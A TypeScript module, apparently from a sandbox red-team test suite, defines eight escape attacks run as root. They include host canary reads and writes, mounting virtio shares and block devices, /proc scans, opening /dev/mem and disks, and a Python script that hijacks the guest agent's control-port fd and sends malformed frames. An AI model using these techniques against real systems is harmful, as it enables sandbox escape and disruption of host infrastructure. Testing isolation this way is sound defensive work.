/**
 * Sandbox escape and reconnaissance, run as root inside the sandbox: host
 * files (read and write), host processes, the host's kernel, host loopback
 * services and sockets, host devices, and the control channel attacked with
 * malformed frames. Each is scored by what happened on the host: the host
 * canary file read or changed, the host process seen, the host kernel shared,
 * a host listener reached, the control plane or another sandbox hurt.
 */
import { spawn } from 'node:child_process';
import { readFileSync, existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { release } from 'node:os';
import { brief, judge, py, settle } from './util.js';
import { contained, couldNotJudge, notApplicable, succeeded, type Attack } from '../types.js';
import { GUEST_AGENT_PID_PY, GUEST_AGENT_PORT_PY } from '../../sandbox/index.js';

const hostFileRead: Attack = {
  id: 'escape.host-file-read', category: 'escape', title: 'read a file of the host (outside the sandbox)',
  async run(ctx) {
    const t = ctx.target;
    // The attacker is told the exact host path: the strongest position short of guessing.
    const r = await t.sh(`cat ${t.hostCanaryPath} 2>&1; ls -la ${dirname(t.hostCanaryPath)} 2>&1 | head -n 5`, { user: 'root' });
    return r.stdout.includes(t.hostCanary) ? succeeded(`the sandbox read the host canary file ${t.hostCanaryPath}`, brief(r)) : contained('the host canary file is not visible inside the sandbox', brief(r));
  },
};

const hostFileWrite: Attack = {
  id: 'escape.host-file-write', category: 'escape', title: 'write into a directory of the host',
  async run(ctx) {
    const t = ctx.target;
    const dropped = join(dirname(t.hostCanaryPath), 'dropped-by-sandbox');
    const r = await t.sh(`mkdir -p ${dirname(t.hostCanaryPath)} 2>&1; echo ${ctx.marker} > ${dropped} 2>&1; echo done`, { user: 'root' });
    const landed = existsSync(dropped) && readFileSync(dropped, 'utf8').includes(ctx.marker);
    return landed ? succeeded(`the host file ${dropped} now holds the marker`, brief(r)) : contained(`nothing appeared at ${dropped} on the host`, brief(r));
  },
};

const hostMounts: Attack = {
  id: 'escape.mounts', category: 'escape', title: 'mount a host file system (9p or virtiofs shares, block devices) and read the host file',
  async run(ctx) {
    const t = ctx.target;
    const r = await t.sh([
      'cut -d" " -f1-3 /proc/mounts | sort -u | head -n 40 | tr "\\n" ";"; echo',
      'i=0; for tag in $(cat /sys/bus/virtio/drivers/9pnet_virtio/*/mount_tag 2>/dev/null) $(cat /sys/fs/virtiofs/*/tag 2>/dev/null); do',
      '  i=$((i+1)); mkdir -p /tmp/rt-mnt-s$i; mount -t 9p -o trans=virtio,ro "$tag" /tmp/rt-mnt-s$i 2>/dev/null || mount -t virtiofs -o ro "$tag" /tmp/rt-mnt-s$i 2>/dev/null && echo "mounted share $tag"; done',
      'for dev in /dev/vd? /dev/sd? /dev/nvme?n?; do [ -b "$dev" ] || continue; i=$((i+1)); mkdir -p /tmp/rt-mnt-b$i; mount -o ro "$dev" /tmp/rt-mnt-b$i 2>/dev/null && echo "mounted $dev"; done',
      `for m in / /tmp/rt-mnt-*; do cat "$m${t.hostCanaryPath}" 2>/dev/null && echo "read via $m"; done`,
      'for m in /tmp/rt-mnt-*; do umount "$m" 2>/dev/null; rmdir "$m" 2>/dev/null; done; true',
    ].join('\n'), { user: 'root', timeoutMs: 45_000 });
    const via = /read via (\S+)/.exec(r.stdout)?.[1];
    return r.stdout.includes(t.hostCanary)
      ? succeeded(`the host canary file was read through the mount at ${via ?? '?'}`, brief(r, 600))
      : contained('no mount, share or block device in the sandbox gives access to the host\'s files', brief(r, 600));
  },
};

const hostProcesses: Attack = {
  id: 'escape.host-processes', category: 'escape', title: 'see a process of the host',
  async run(ctx) {
    const child = spawn('sleep', ['60'], { argv0: ctx.marker, stdio: 'ignore' });
    try {
      await settle(200);
      // The marker travels reversed, so this probe's own command line does not match.
      const r = await py(ctx, [
        'import os, sys',
        'needle = sys.argv[1][::-1].encode()',
        'hits = []',
        'for p in os.listdir("/proc"):',
        '    if p.isdigit() and int(p) != os.getpid():',
        '        try:',
        '            if needle in open("/proc/%s/cmdline" % p, "rb").read(): hits.append(p)',
        '        except OSError: pass',
        'print("pids", hits)',
      ].join('\n'), { user: 'root', args: [[...ctx.marker].reverse().join('')] });
      return /pids \['\d+/.test(r.stdout) ? succeeded(`a host process (pid ${child.pid}) is visible in the sandbox's /proc`, brief(r)) : contained(`host pid ${child.pid} is not visible in the sandbox`, brief(r));
    } finally {
      child.kill('SIGKILL');
    }
  },
};

const sharedKernel: Attack = {
  id: 'escape.kernel-modules', category: 'escape', title: 'reach the host kernel (shared boot id, load a module)',
  async run(ctx) {
    const hostBoot = readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim();
    const r = await ctx.target.sh('cat /proc/sys/kernel/random/boot_id; uname -r; (modprobe -q dummy 2>&1 || insmod /nonexistent.ko 2>&1) | head -n 2; grep -c . /proc/modules 2>/dev/null', { user: 'root' });
    const guestBoot = r.stdout.split('\n')[0]?.trim();
    if (!guestBoot) return couldNotJudge('no boot id read in the sandbox', brief(r));
    return guestBoot === hostBoot
      ? succeeded(`the sandbox runs on the host kernel (boot id ${hostBoot}, ${release()}): any module or kernel exploit hits the host`, brief(r))
      : contained(`the sandbox has its own kernel (boot id ${guestBoot} ≠ host ${hostBoot}); modules load into the guest kernel only`, brief(r));
  },
};

const hostLoopback: Attack = {
  id: 'escape.host-sockets', category: 'escape', title: 'reach host loopback services and unix sockets directly',
  async run(ctx) {
    const a = ctx.target.addresses;
    const mark = ctx.target.canaries.mark();
    const r = await py(ctx, [
      'import os, socket',
      'out = []',
      `for host in ("127.0.0.1", "::1"):`,
      '    try:',
      `        s = socket.create_connection((host, ${a.attackerPort}), 3); s.sendall(b"${ctx.marker}\\n"); s.close(); out.append(host + " connected")`,
      '    except OSError as e: out.append("%s %s" % (host, e))',
      'socks = []',
      'for d in ("/run", "/var/run", "/tmp"):',
      '    for root, _, files in os.walk(d):',
      '        for f in files:',
      '            p = os.path.join(root, f)',
      '            try:',
      '                if os.path.exists(p) and (os.stat(p).st_mode & 0o170000) == 0o140000: socks.append(p)',
      '            except OSError: pass',
      'print("; ".join(out)); print("unix sockets:", socks[:8])',
    ].join('\n'), { user: 'root' });
    await settle();
    return judge(ctx, { needles: [ctx.marker], mark, anyAttackerByte: true, evidence: [brief(r)] });
  },
};

/**
 * Device nodes belong to the kernel that serves them: with its own kernel (a VM), /dev/mem or a disk
 * is the guest's own hardware, emulated by the confined VMM. A host device is one served by the host kernel.
 */
const hostDevices: Attack = {
  id: 'escape.devices', category: 'escape', title: 'open host devices (/dev/kvm, /dev/mem, host disks)',
  async run(ctx) {
    const hostBoot = readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim();
    const r = await py(ctx, [
      'import glob, os',
      'opened = []',
      'for p in ["/dev/kvm", "/dev/mem", "/dev/kmem", "/dev/port"] + glob.glob("/dev/sd?") + glob.glob("/dev/nvme?n?") + glob.glob("/dev/vd?"):',
      '    try:',
      '        fd = os.open(p, os.O_RDWR); os.close(fd); opened.append(p)',
      '    except OSError as e: pass',
      'print("opened", opened)',
      'print("boot", open("/proc/sys/kernel/random/boot_id").read().strip())',
      'print("virtio", sorted(open(d + "/device").read().strip() for d in glob.glob("/sys/bus/virtio/devices/*")))',
    ].join('\n'), { user: 'root' });
    const opened = /opened \[(.*)\]/.exec(r.stdout)?.[1] ?? '';
    const guestBoot = /boot (\S+)/.exec(r.stdout)?.[1];
    if (!/opened \[/.test(r.stdout) || !guestBoot) return couldNotJudge('the device probe did not report', brief(r));
    if (!opened.trim()) return contained('no device (kvm, mem, port, disks) could be opened', brief(r));
    return guestBoot === hostBoot
      ? succeeded(`host devices opened read-write (served by the host kernel): ${opened}`, brief(r))
      : contained(`opened ${opened}, but they are the guest's own (its kernel, boot id ${guestBoot} ≠ host ${hostBoot}), emulated by the confined VMM`, brief(r));
  },
};

/** Root stops the guest agent, takes its control-port fd and writes a frame that claims 4 GiB, then garbage. */
const HOSTILE_CHANNEL = String.raw`
import ctypes, glob, os, signal, struct, time
libc = ctypes.CDLL(None, use_errno=True)
${GUEST_AGENT_PID_PY}
${GUEST_AGENT_PORT_PY}
os.kill(pid, signal.SIGSTOP)
fd = libc.syscall(438, libc.syscall(434, pid, 0), port, 0)
print('fd', fd, flush=True)
os.write(fd, struct.pack('>IBI', 0xffffffff, 1, 0) + os.urandom(4096))
time.sleep(5)
`;

const controlChannel: Attack = {
  id: 'escape.control-channel', category: 'escape', title: 'malformed frames on the control channel (hurt the host or another sandbox)', timeoutMs: 90_000,
  async run(ctx) {
    const d = ctx.target.deployment;
    if (!d) return notApplicable('the weak setup has no control channel: the agent already runs next to the host');
    const victim = await d.createSandbox();
    const started = performance.now();
    // The script's own output goes into the evidence: when it fails before writing (exit 1), the reason shows.
    const output: Buffer[] = [];
    const keep = (b: Buffer): void => { if (output.reduce((n, x) => n + x.length, 0) < 4096) output.push(b); };
    const said = (): string => { const text = Buffer.concat(output).toString('utf8').trim(); return text ? `: ${text.slice(-600)}` : ''; };
    const ran = d.manager.run(victim.id, { argv: ['python3', '-c', HOSTILE_CHANNEL], user: 'root', timeoutMs: 30_000, onStdout: keep, onStderr: keep }, { actor: 'operator:redteam' }).then(
      (r) => `exec ended: exit ${r.exitCode}${said()}`, (e: unknown) => `exec ended: ${e instanceof Error ? e.message : String(e)}${said()}`);
    let info = d.manager.get(victim.id);
    while (info.state !== 'destroyed' && performance.now() - started < 40_000) {
      await settle(250);
      info = d.manager.get(victim.id);
    }
    const execEnd = await Promise.race([ran, settle(5000).then(() => 'exec still running')]);
    const survivor = await ctx.target.sh('echo alive');
    const ev = [`attacked sandbox ${victim.id}: state ${info.state}, end reason ${info.endReason ?? 'none'}`, execEnd, `main sandbox after the attack: ${brief(survivor)}`];
    if (info.state !== 'destroyed') {
      await d.manager.destroy(victim.id, { actor: 'operator:redteam' }, 'redteam-cleanup').catch(() => undefined);
      return couldNotJudge('the attacked sandbox was not ended by the host within 40 s', ...ev);
    }
    if (survivor.stdout.trim() !== 'alive') return succeeded('the main sandbox or the control plane stopped answering after the hostile frames', ...ev);
    return contained('the host closed only the attacked sandbox\'s channel; the control plane and the other sandboxes kept running', ...ev);
  },
};

export const escapeAttacks: Attack[] = [hostFileRead, hostFileWrite, hostMounts, hostProcesses, sharedKernel, hostLoopback, hostDevices, controlChannel];
